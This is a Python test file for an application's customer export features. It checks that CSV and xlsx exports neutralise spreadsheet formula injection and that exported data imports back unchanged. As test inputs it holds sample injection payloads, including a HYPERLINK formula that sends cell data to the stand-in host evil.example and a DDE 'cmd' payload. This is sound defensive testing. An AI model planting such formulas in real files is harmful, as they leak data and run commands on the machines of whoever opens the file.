"""Issue 10, item 10: no export turns tenant text into a spreadsheet formula.

CSV cells that would start a formula (= + - @ tab CR) get a leading `'`; xlsx cells are string cells (never
formulas). Both customer exports (the records page's CSV/xlsx and `hotline customers export`) are checked by
reading the files back with the csv module and openpyxl, and a round trip through the import loses nothing.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import openpyxl
import pytest

from hotline.platform.db import Database
from hotline.platform.services import customer_export, customer_import, customers, spreadsheet_cells, tenants

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_prefixed_and_restored(text: str) -> None:
    assert spreadsheet_cells.neutral(text) == "'" + text
    assert spreadsheet_cells.restore(spreadsheet_cells.neutral(text)) == text


@pytest.mark.parametrize("text", ["张三", "13800000001", "a=b", "'quoted", "", "100-200", "-5", "+8613800000001",
                                  "'-5"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert spreadsheet_cells.neutral(text) == text
    assert spreadsheet_cells.restore(text) == text


def test_xlsx_cells_are_text_never_formulas() -> None:
    content = spreadsheet_cells.xlsx_bytes([["a", "b"], FORMULAS[:2], [None, 12]], "s")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None), [c.data_type for c in cells]
    assert [c.value for c in cells][2:4] == FORMULAS[:2]  # the text unchanged, shown as typed


@pytest.fixture
def tenant(db: Database, unique: Callable[[str], str]) -> int:
    with db.platform() as session:
        tenant_id = tenants.create_tenant(session, unique("exp"), "Export test", "test").id
    with db.tenant(tenant_id) as session:
        customers.create(session, FORMULAS[0][:100], ["+8613800000001"], address="@SUM(A1:A9)", note="-2+3",
                         data={"company": "=1+1"}, actor="t")
    return tenant_id


def test_the_customer_csv_export_neutralises_every_cell(db: Database, tenant: int) -> None:
    with db.tenant(tenant) as session:
        content = customer_export.export(session, "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["name", "phones", "address", "vip", "flags", "note", "company"]
    name, phones, address, _vip, _flags, note, company = rows[1]
    assert (name, phones, address, note, company) == (
        "'" + FORMULAS[0][:100], "+8613800000001", "'@SUM(A1:A9)", "'-2+3", "'=1+1")
    for row in rows:  # nothing but a plain number starts like a formula
        assert not any(cell.startswith(spreadsheet_cells.TRIGGERS) and cell != phones for cell in row), row


def test_the_customer_xlsx_export_writes_text_cells(db: Database, tenant: int) -> None:
    with db.tenant(tenant) as session:
        content = customer_export.export(session, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    row = [cell for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert all(cell.data_type == "s" for cell in row if cell.value), [(c.value, c.data_type) for c in row]
    assert row[0].value == FORMULAS[0][:100] and row[1].value == "+8613800000001"


def test_the_command_line_csv_export_neutralises_and_imports_back_unchanged(
        db: Database, tenant: int, unique: Callable[[str], str]) -> None:
    out = io.StringIO(newline="")
    with db.tenant(tenant) as session:
        customer_import.export_csv(session, out)
        before = [(c.name, [p.phone for p in c.phones], c.address, c.note, dict(c.data))
                  for c in customers.search(session)[0]]
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][0].startswith("'=") and rows[1][5] == "'-2+3", rows
    with db.platform() as session:
        other = tenants.create_tenant(session, unique("imp"), "Import test", "test").id
    with db.tenant(other) as session:
        report = customer_import.import_csv(session, io.StringIO(out.getvalue()), "t")
        assert report.errors == []
        after = [(c.name, [p.phone for p in c.phones], c.address, c.note, dict(c.data))
                 for c in customers.search(session)[0]]
    assert after == before
